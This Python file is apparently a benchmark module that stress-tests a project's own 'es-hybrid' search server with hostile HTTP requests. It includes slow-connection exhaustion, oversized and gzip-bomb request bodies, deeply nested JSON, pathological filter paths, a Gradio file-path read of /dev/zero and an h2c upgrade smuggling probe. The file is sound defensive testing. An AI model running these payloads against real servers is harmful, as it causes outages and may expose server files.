"""Hostile requests to `es-hybrid serve`, sent by `benchmarks.siege` from a process of its own.

    python -m benchmarks.attacks NAME URL SCALE

Prints how the server answered, as JSON: status, or what became of the connection -> how often.
"""

from __future__ import annotations

import gzip
import json
import resource
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from urllib.parse import urlsplit

# Seconds for one answer. A server that needs longer has been stopped.
_PATIENCE = 60.0
_MIB = 1024 * 1024
_PLAIN_JSON = "content-type: application/json\r\n"

Outcomes = Iterable[str]


def idle_connections(url: str, scale: float) -> Outcomes:
    """2,000 connections that send nothing, or half a head; held for as long as the server lets."""
    _raise_file_limit()
    count = int(2000 * scale)
    held = []
    for number in range(count):
        try:
            connection = _connected(url)
            if number % 2:
                connection.sendall(b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ")
            held.append(connection)
        except OSError as error:
            yield type(error).__name__
    time.sleep(20 * scale)
    for connection in held:
        connection.setblocking(False)
        try:
            yield _status(connection.recv(64))
        except BlockingIOError:
            yield "open"
        except OSError as error:
            yield type(error).__name__
        connection.close()


def large_headers(url: str, scale: float) -> Outcomes:
    """One head of 300 MB: header lines of 1 MB each."""
    head = b"GET / HTTP/1.1\r\nhost: x\r\n"
    line = b"x-filler: " + b"a" * _MIB + b"\r\n"
    lines = (line for _ in range(int(300 * scale)))
    yield _exchange(url, _joined(head, lines))


def many_headers(url: str, scale: float) -> Outcomes:
    """One head with 100,000 header lines."""
    lines = (b"x-%d: 1\r\n" % number for number in range(int(100_000 * scale)))
    yield _exchange(url, _joined(b"GET / HTTP/1.1\r\nhost: x\r\n", lines))


def large_searches(url: str, scale: float) -> Outcomes:
    """40 searches of 32 MB at once, of empty lists that decoding multiplies in memory."""
    lists = int(11 * _MIB * scale)
    body = b'{"ext":{"es_hybrid":{"text":"x"}},"query":[' + b"[]," * lists + b"[]]}"
    yield from _at_once(40, partial(_post, url, "/_search", body))


def compressed_searches(url: str, scale: float) -> Outcomes:
    """40 searches of 30 kB at once that gzip expands to 32 MB."""
    lists = int(11 * _MIB * scale)
    body = b'{"ext":{"es_hybrid":{"text":"x"}},"query":[' + b"[]," * lists + b"[]]}"
    packed = gzip.compress(body, 9)
    headers = f"{_PLAIN_JSON}content-encoding: gzip\r\n"
    yield from _at_once(40, partial(_post, url, "/_search", packed, headers))


def large_own_searches(url: str, scale: float) -> Outcomes:
    """40 requests of 30 MB at once to es-hybrid's own `/search`."""
    body = b'{"text":"x","filters":[' + b"[]," * int(10 * _MIB * scale) + b"[]]}"
    yield from _at_once(40, partial(_post, url, "/search", body))


def reranker_bombs(url: str, scale: float) -> Outcomes:
    """Five rerankings of a query of 9,900 characters and 300 documents of 20 kB."""
    documents = ["kettle and pot " * 1340] * max(int(300 * scale), 1)
    request = {"model": "x", "query": "red kettle " * 900, "documents": documents}
    yield from _at_once(5, partial(_post, url, "/v1/rerank", json.dumps(request).encode()))


def long_queries(url: str, scale: float) -> Outcomes:
    """Ten searches with a text of 1 MB, in 2 kB of gzip."""
    text = "red kettle " * int(95_000 * scale)
    body = {"query": {"match_all": {}}, "ext": {"es_hybrid": {"text": text}}}
    packed = gzip.compress(json.dumps(body).encode(), 9)
    headers = f"{_PLAIN_JSON}content-encoding: gzip\r\n"
    yield from _at_once(10, partial(_post, url, "/_search", packed, headers))


def filter_paths(url: str, scale: float) -> Outcomes:
    """Ten searches whose `filter_path` has 60 levels of `**`."""
    pattern = ".".join(["**"] * int(60 * scale)) + ".x"
    yield from _ten_searches(url, f"/_search?filter_path={pattern}")


def ordinary_searches(url: str, scale: float) -> Outcomes:
    """No attack: the same searches without the `filter_path`."""
    yield from _ten_searches(url, "/_search")


def _ten_searches(url: str, target: str) -> Iterator[str]:
    asked = {"text": "kettle", "rerank": False}
    body = {"size": 10, "query": {"match_all": {}}, "ext": {"es_hybrid": asked}}
    yield from _at_once(10, partial(_post, url, target, json.dumps(body).encode()))


def files_of_the_server(url: str, scale: float) -> Outcomes:
    """Ten requests to the page whose text is a file of the server that has no end."""
    endless = {"path": "/dev/zero", "meta": {"_type": "gradio.FileData"}}
    request = {"data": [endless, "a\nb", "search"], "fn_index": 3, "session_hash": "z"}
    target = "/ui/en/gradio_api/run/predict"
    body = json.dumps(request).encode()
    yield from _at_once(max(int(10 * scale), 1), partial(_post, url, target, body))


def smuggled_upgrades(url: str, scale: float) -> Outcomes:
    """A body that is a request itself, behind `Connection: Upgrade`: two answers are a hole."""
    hidden = b"GET /hidden-by-upgrade HTTP/1.1\r\nhost: x\r\n\r\n"
    head = (
        b"POST /_search HTTP/1.1\r\nhost: x\r\nconnection: Upgrade\r\nupgrade: h2c\r\n"
        b"content-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(hidden)
    )
    with _connected(url) as connection:
        connection.sendall(head)
        time.sleep(0.2)
        connection.sendall(hidden)
        connection.settimeout(2)
        answers = b""
        try:
            while part := connection.recv(65536):
                answers += part
        except TimeoutError:
            pass
        yield f"{answers.count(b'HTTP/1.1 ')} answer to 1 request"


def _at_once(count: int, request: Callable[[], str]) -> Iterator[str]:
    with ThreadPoolExecutor(count) as threads:
        for future in [threads.submit(request) for _ in range(count)]:
            yield future.result()


def _post(url: str, target: str, body: bytes, headers: str = _PLAIN_JSON) -> str:
    length = f"content-length: {len(body)}\r\n"
    host = urlsplit(url).netloc
    head = f"POST {target} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n{length}{headers}\r\n"
    pieces = (body[start : start + _MIB] for start in range(0, len(body), _MIB))
    return _exchange(url, _joined(head.encode(), pieces))


def _joined(first: bytes, more: Iterable[bytes]) -> Iterator[bytes]:
    yield first
    yield from more


def _exchange(url: str, pieces: Iterable[bytes]) -> str:
    """Send, then read the status; or what became of the connection."""
    with _connected(url) as connection:
        try:
            for piece in pieces:
                connection.sendall(piece)
        except OSError:
            pass  # the answer may have been sent before the whole request was read
        try:
            return _status(connection.recv(65536))
        except OSError as error:
            return type(error).__name__


def _status(answer: bytes) -> str:
    return answer[9:12].decode("latin-1") or "closed"


def _connected(url: str) -> socket.socket:
    parts = urlsplit(url)
    return socket.create_connection((parts.hostname, parts.port or 80), timeout=_PATIENCE)


def _raise_file_limit() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


ATTACKS: dict[str, Callable[[str, float], Outcomes]] = {
    attack.__name__: attack
    for attack in (
        idle_connections,
        large_headers,
        many_headers,
        large_searches,
        compressed_searches,
        large_own_searches,
        reranker_bombs,
        long_queries,
        filter_paths,
        ordinary_searches,
        files_of_the_server,
        smuggled_upgrades,
    )
}


if __name__ == "__main__":
    name, url, scale = sys.argv[1:]
    print(json.dumps(Counter(ATTACKS[name](url, float(scale)))))
